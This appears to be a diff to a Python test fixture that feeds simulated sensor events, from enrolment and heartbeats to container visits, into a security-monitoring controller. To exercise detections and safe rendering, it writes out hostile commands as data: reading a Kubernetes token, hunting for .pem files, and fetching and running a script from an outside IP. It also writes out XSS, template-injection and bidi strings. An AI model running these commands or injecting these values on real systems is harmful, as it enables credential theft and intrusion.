@@ -1,8 +1,8 @@
 # SPDX-License-Identifier: Apache-2.0
-"""A small fleet with visits, sent to a running controller as sensors send them: enrolment, batches, heartbeats.
+"""A small fleet with visits, sent to a running controller as sensors do: enrolment, batches, heartbeats.
 
-What the tests and the screenshots show went the whole way: ingest, bus, projection, detections, store. Some of
-it is hostile: everything that stands in an argument, a name or a label can be chosen by who came in.
+What the tests and the screenshots show went the whole way: ingest, bus, projection, detections, store. Some
+of it is hostile: everything in an argument, a name or a label can be chosen by who came in.
 """
 
 from __future__ import annotations
@@ -12,7 +12,6 @@ from dataclasses import dataclass
 from typing import Any
 
 import requests
-from requests.adapters import HTTPAdapter
 
 from sensor import wire
 from tests.browser.visits import SECOND, SHELL, Clock, Visit, ago, container
@@ -26,13 +25,6 @@ NOT_UTF8 = "\\xff\\xfe\\xc3("
 JINJA = "{{ 7 * 191 }}{% raw %}"
 LONG = "A" * 1000 + " " + "B" * 3000
 HOSTILE = [SCRIPT, IMAGE_TAG, BIDI, ESCAPES, NOT_UTF8, JINJA, "javascript:alert(1)", "a\nb\tc\r", LONG]
-
-
-class _NoProxies(requests.Session):
-    def __init__(self) -> None:
-        super().__init__()
-        self.trust_env = False
-        self.mount("https://", HTTPAdapter())
 
 
 @dataclass
@@ -64,7 +56,12 @@ class Host:
             "exit": "tracepoint sched:sched_process_exit",
         }
         counters = {"entry.seen": 41, "command.seen": 1893, "ring.entry.full": 0, "ship.retries": 3}
-        gauges = {"spool.events": 0.0, "spool.bytes": 0.0, "spool.age_s": 0.0, "memory.rss_bytes": 31_457_280.0}
+        gauges = {
+            "spool.events": 0.0,
+            "spool.bytes": 0.0,
+            "spool.age_s": 0.0,
+            "memory.rss_bytes": 31_457_280.0,
+        }
         message = {
             "v": wire.VERSION,
             "host": self._wire(),
@@ -85,8 +82,8 @@ class Fleet:
     """The hosts of a controller at `url`, whose CA is in the file `ca`."""
 
     def __init__(self, url: str, ca: str, token: str) -> None:
-        self._url, self._http = url, _NoProxies()
-        self._http.verify = ca
+        self._url, self._http = url, requests.Session()
+        self._http.trust_env, self._http.verify = False, ca
         self._token = wire.decode_token(token)[0]
 
     def post(self, name: str, message: dict[str, Any], credential: str | None = None) -> dict[str, Any]:
@@ -104,15 +101,17 @@ class Fleet:
         return Host(self, name, made["host"], made["credential"], Clock(made["host"], boot))
 
 
-WEB = container("web", "nginx:1.27", labels={"com.docker.compose.project": "shop", "com.docker.compose.service": "web"})
+WEB = container("web", "nginx:1.27", labels={"com.docker.compose.project": "shop"})
 DATABASE = container("orders-db", "postgres:17", user="postgres")
 PAYMENTS = container("payments", "registry.example/payments:4.2.1", user="1000:1000")
 HOSTILE_BOX = container(f"x{SCRIPT}", f"evil{BIDI}:1", labels={IMAGE_TAG: ESCAPES})
 
 
 def fill(fleet: Fleet) -> dict[str, Host]:
-    """Five hosts in different states and the visits to them; returns the hosts by name."""
-    hosts = {name: fleet.enrol(name) for name in ("edge-1", "edge-2", "db-1", "build-7", "lab-3")}
+    """Hosts in different states and the visits to them; returns the hosts by name."""
+    names = ("edge-1", "edge-2", "db-1", "build-7", "lab-3", "silent-9")
+    hosts = {name: fleet.enrol(name) for name in names}
+    hosts["silent-9"].beat()
     hosts["edge-1"].beat()
     hosts["edge-2"].beat(
         ["exec is followed by a kprobe: the tracepoint sched_process_exec is not there"],
@@ -141,7 +140,13 @@ def _nsenter_with_recon(host: Host) -> None:
     visit.run("/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], 1).wait(6)
     visit.run("/usr/bin/find", ["find", "/", "-name", "*.pem", "-not", "-path", "/proc/*"], lasts=2.8).wait(5)
     visit.run("/usr/bin/wget", ["wget", "-qO-", "http://203.0.113.9/s.sh"], lasts=0.6).wait(0.2)
-    visit.run("/bin/sh", ["sh", "-c", "chmod +x /tmp/.s && /tmp/.s --password ***"], -9, lasts=4.0, argv_redacted=True)
+    visit.run(
+        "/bin/sh",
+        ["sh", "-c", "chmod +x /tmp/.s && /tmp/.s --password ***"],
+        -9,
+        lasts=4.0,
+        argv_redacted=True,
+    )
     host.send(*visit.wait(8).leave(137).events)
 
 
@@ -153,14 +158,20 @@ def _still_inside(host: Host) -> None:
 
 def _psql(host: Host) -> None:
     visit = host.visit(DATABASE, ago(hours=5))
-    visit.exec("/usr/bin/psql", ["psql", "-U", "orders", "-c", "select count(*) from orders"], uid=70, user=None, caps="0" * 16)
+    visit.exec(
+        "/usr/bin/psql",
+        ["psql", "-U", "orders", "-c", "select count(*) from orders"],
+        uid=70,
+        user=None,
+        caps="0" * 16,
+    )
     host.send(*visit.wait(0.3).leave().events)
 
 
 def _download(host: Host) -> None:
     visit = host.visit(WEB, ago(hours=2)).exec(*SHELL, tty="pts/1").wait(3)
-    visit.run("/usr/bin/curl", ["curl", "-sSLo", "/tmp/t", "https://files.example/tool.tgz"], lasts=1.4)
-    host.send(*visit.wait(12).run("/bin/tar", ["tar", "xzf", "/tmp/t", "-C", "/tmp"]).leave().events)
+    visit.run("/usr/bin/curl", ["curl", "-sSLo", "/opt/t", "https://files.example/tool.tgz"], lasts=1.4)
+    host.send(*visit.wait(12).run("/bin/tar", ["tar", "xzf", "/opt/t", "-C", "/opt"]).leave().events)
 
 
 def _attempt(host: Host) -> None:
@@ -170,8 +181,10 @@ def _attempt(host: Host) -> None:
 def hostile_visit(host: Host) -> Visit:
     """Everything that a visitor can choose is hostile."""
     visit = host.visit(HOSTILE_BOX, ago(minutes=31))
-    visit.nsenter(["-m", IMAGE_TAG], "/bin/sh", ["sh", "-c", *HOSTILE], cwd=f"/tmp/{SCRIPT}", tty=f"pts/{BIDI}")
-    visit.wait(1).run(f"/tmp/{ESCAPES}", [f"curl{BIDI}", SCRIPT, IMAGE_TAG, *HOSTILE], 3)
+    visit.nsenter(
+        ["-m", IMAGE_TAG], "/bin/sh", ["sh", "-c", *HOSTILE], cwd=f"/opt/{SCRIPT}", tty=f"pts/{BIDI}"
+    )
+    visit.wait(1).run(f"/opt/{ESCAPES}", [f"curl{BIDI}", SCRIPT, IMAGE_TAG, *HOSTILE], 3)
     host.send(*visit.wait(2).run("/usr/bin/curl", ["curl", *HOSTILE]).leave().events)
     return visit
 
